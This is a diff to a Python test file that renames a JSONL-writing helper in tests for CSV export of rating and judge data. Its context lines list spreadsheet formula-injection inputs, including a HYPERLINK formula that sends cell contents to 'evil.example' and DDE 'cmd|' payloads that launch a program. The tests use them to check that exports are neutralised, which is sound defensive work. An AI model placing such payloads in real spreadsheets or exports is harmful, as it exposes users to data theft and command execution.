@@ -17,8 +17,9 @@ from common.csv_safe import FORMULA_TRIGGERS, cell_neutralise, cell_restore
 from judge.models import JudgeRun
 from modeling.tables import table_csv, table_from_values
 from reports import report_build, report_render
+from tests.factories import jsonl_write
 
-from .conftest import BASELINE, CHALLENGER, QKEYS, study_lines, write_jsonl
+from .conftest import BASELINE, CHALLENGER, QKEYS, study_lines
 
 HOSTILE = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+2", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
@@ -52,7 +53,7 @@ def test_export_votes_neutralises_and_round_trips_into_a_fresh_study(db, tmp_pat
     keys = HOSTILE + ["-0.5", "plain-key"]
     for line, key in zip(lines, keys):
         line["key"] = key
-    path = write_jsonl(tmp_path / "hostile.jsonl", lines)
+    path = jsonl_write(tmp_path / "hostile.jsonl", lines)
     study, _ = services.study_import_jsonl(path=path, slug="hostile", baseline=BASELINE, challenger=CHALLENGER, overlap=3)
     raters = ["=cmd|' /C calc'!A0", "+rater", "-rater", "@rater", "\tTabbed", "\rReturned", "'quoted", "-0.5"]
     choices = list(Rating.Choice.values)
@@ -85,7 +86,7 @@ def test_export_votes_neutralises_and_round_trips_into_a_fresh_study(db, tmp_pat
 
 def test_the_report_csv_neutralises_rater_and_judge_names_and_keeps_numbers(db, tmp_path):
     lines = study_lines(4, tag="rep")
-    study, _ = services.study_import_jsonl(path=write_jsonl(tmp_path / "r.jsonl", lines), slug="rep",
+    study, _ = services.study_import_jsonl(path=jsonl_write(tmp_path / "r.jsonl", lines), slug="rep",
                                            baseline=BASELINE, challenger=CHALLENGER, overlap=3)
     judge = "=HYPERLINK(\"http://evil.example\",\"LLM\")"
     for i, item in enumerate(study.items.order_by("key")):
